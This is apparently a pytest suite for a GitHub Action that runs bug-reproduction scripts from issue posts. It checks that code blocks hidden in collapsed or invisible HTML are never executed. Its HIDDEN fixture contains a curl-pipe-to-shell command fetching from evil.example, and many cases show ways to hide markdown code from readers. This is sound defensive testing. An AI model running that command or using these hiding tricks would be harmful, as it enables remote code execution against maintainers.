"""The Action runs only a block a reader can see (issue #39, bot/action/visible.py).

Red-team finding: a code block inside a collapsed ``<details>``, chosen by an info string GitHub
does not display (```` ```python reprobot ````), ran instead of the visible script. Each case
here is a post a maintainer would read on GitHub; ``VISIBLE`` is the script they see, ``HIDDEN``
what an attacker tucked away."""
from __future__ import annotations

import time
from pathlib import Path

import pytest

from bot.action.extract import MAX_BODY, extract
from bot.action.event import load_event
from bot.action.reproduce import ReproduceOptions, reproduce

EVENTS = Path(__file__).parent / "data" / "events"
VISIBLE = "```python\nimport json\njson.loads('{')\n```\n"
# Marked both ways, and larger than the visible script: if it counted at all, it would win.
HIDDEN = ("```python reprobot\n# reprobot: main\nimport os\nos.system('curl -s https://evil.example/x | sh')\n"
          "raise SystemExit(1)\n```\n")


def fence(text: str, prefix: str) -> str:
    return "".join(prefix + line if line else line for line in text.splitlines(keepends=True))


HIDING = {
    "a collapsed <details> spanning the fence": "<details>\n<summary>logs</summary>\n\n" + HIDDEN + "\n</details>\n",
    "<details> written inline in a sentence": "See the logs <details> below.\n\n" + HIDDEN + "\n</details>\n",
    "nested: open inside collapsed": "<details>\n<details open>\n\n" + HIDDEN + "\n</details>\n</details>\n",
    "nested: collapsed inside open": "<details open>\n<details>\n\n" + HIDDEN + "\n</details>\n</details>\n",
    "a second <summary> is content": "<details>\n<summary>a</summary>\n<summary>\n\n" + HIDDEN + "\n</summary>\n</details>\n",
    "a <summary> not directly in <details>": "<details><div><summary>\n\n" + HIDDEN + "\n</summary></div></details>\n",
    "</details> inside a table cell closes nothing": "<details>\n\n| a |\n|---|\n| </details> |\n\n" + HIDDEN,
    "a comment left open in an HTML block": "<div>\n<!-- notes\n\n" + HIDDEN + "\n-->\n\n",
    "<div hidden>": "<div hidden>\n\n" + HIDDEN + "\n</div>\n",
    "<template>": "<template>\n\n" + HIDDEN + "\n</template>\n",
    "a style attribute": '<div style="display:none">\n\n' + HIDDEN + "\n</div>\n",
    "an attribute left open swallows the markup": '<div title="\n\n' + HIDDEN + '\n">\n',
    "<b hidden> re-opens in the next paragraph": "some <b hidden> text\n\nmore\n\n" + HIDDEN + "\nthen </b>\n\n",
    "<svg>": "<svg>\n\n" + HIDDEN + "\n</svg>\n",
    "<select>": "<select><option>\n\n" + HIDDEN + "\n</option></select>\n",
    "a closed <dialog>": "<dialog>\n\n" + HIDDEN + "\n</dialog>\n",
    "a collapsed <details> inside a blockquote": "> <details>\n>\n" + fence(HIDDEN, "> ") + "\n",
}


@pytest.mark.parametrize("case", sorted(HIDING))
def test_a_hidden_block_never_runs_and_its_markers_choose_nothing(case: str) -> None:
    ex = extract(VISIBLE + "\n" + HIDING[case])
    assert ex.status == "ok", ex
    assert ex.script == "import json\njson.loads('{')\n", case
    assert (ex.block, ex.candidates, ex.marked, ex.hidden) == (1, 1, False, 1), case
    assert ex.hidden_why.startswith(("inside", "after")), ex.hidden_why


@pytest.mark.parametrize("case", sorted(HIDING))
def test_a_post_whose_only_script_is_hidden_gets_no_run(case: str) -> None:
    ex = extract("My script:\n\n" + HIDING[case])
    assert ex.status == "no-script" and ex.script is None and ex.hidden == 1
    assert "reprobot runs only code a reader sees" in ex.why


def test_a_comment_around_a_fence_leaves_no_block_at_all() -> None:
    ex = extract("<!--\n" + HIDDEN + "-->\n\n" + VISIBLE)
    assert ex.status == "ok" and ex.candidates == 1 and "json" in ex.script and ex.hidden == 0


SHOWN = {
    "<details open>": "<details open>\n<summary>script</summary>\n\n" + VISIBLE + "\n</details>\n",
    "the <summary> of a collapsed <details>": "<details>\n<summary>\n\n" + VISIBLE + "\n</summary>\n</details>\n",
    "after a closed <details>": "<details>\n<summary>x</summary>\nhidden words\n</details>\n\n" + VISIBLE,
    "<details> in a code span": "Wrap logs in `<details>` please.\n\n" + VISIBLE,
    "an escaped tag": "\\<details>\n\n" + VISIBLE,
    "a token like <eos> in prose": "The tokenizer appends <eos> and <pad> here.\n\n" + VISIBLE,
    "an unclosed <details> inside a list item": "- <details>\n- next item\n\n" + VISIBLE,
    "<span hidden> ends with its paragraph": "a <span hidden>note\n\n" + VISIBLE,
}


@pytest.mark.parametrize("case", sorted(SHOWN))
def test_what_a_reader_sees_still_runs(case: str) -> None:
    ex = extract(SHOWN[case])
    assert ex.status == "ok" and ex.script == "import json\njson.loads('{')\n" and ex.hidden == 0, (case, ex)


def test_an_info_string_marker_chooses_nothing_and_is_reported() -> None:
    """GitHub does not display the info string: a reader cannot see which block it marks."""
    big = "```python\nimport json\nimport sys\nprint(sys.argv)\njson.loads('{')\n```\n"
    small = "```python reprobot\nimport os\nos.getcwd()\n```\n"
    ex = extract(big + "\n" + small)
    assert ex.block == 1 and "json" in ex.script and not ex.marked and ex.info_marker == 2
    # The visible marker, a line in the code, still chooses.
    ex = extract(big + "\n" + small.replace("import os", "# reprobot: main\nimport os"))
    assert ex.block == 2 and ex.marked and ex.info_marker is None


def test_install_hints_from_hidden_text_are_not_read() -> None:
    body = ("<!-- pip install evil-pkg -->\n\n<details>\n\n```requirements\nevil-two\n```\n\n"
            "`pip install evil-three`\n\n</details>\n\nRun `pip install packaging` first.\n\n" + VISIBLE)
    ex = extract(body)
    assert ex.requirements == ["packaging"], ex.requirements
    assert not any("evil" in r for r in ex.rejected)


def test_the_reproduce_job_runs_nothing_for_a_hidden_script(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    ev = load_event(EVENTS / "labeled_failing.json")
    import dataclasses
    ev = dataclasses.replace(ev, body="It fails:\n\n" + HIDING["a collapsed <details> spanning the fence"])
    r = reproduce(ev, ReproduceOptions(out=tmp_path / "art"), environ={"REPROBOT_GATE_ALLOWED": "true"})
    assert (r.status, r.hidden, r.isolation) == ("no-script", 1, "")    # stopped before any sandbox
    assert r.hidden_why == "inside a collapsed <details>" and r.body_sha256 == ev.body_sha256
    assert not (tmp_path / "art" / "repro").exists()


@pytest.mark.parametrize("unit", ["<details>", "<b hidden>", "<td>", "<!--", "<a b='", "|-|\n", "<svg>",
                                  "> <details>\n", "- <details>\n", "<b hidden>x</b>\n\n", "</p>\n\n<details>\n\n"])
def test_crafted_html_is_read_in_linear_time(unit: str) -> None:
    body = unit * ((MAX_BODY - 200) // len(unit)) + "\n" + VISIBLE
    t0 = time.process_time()
    ex = extract(body)
    # generous: about 1 s of CPU on this project's 2-core machine for the slowest (a 16,000-row table)
    assert time.process_time() - t0 < 5.0
    assert ex.status in ("ok", "no-script")
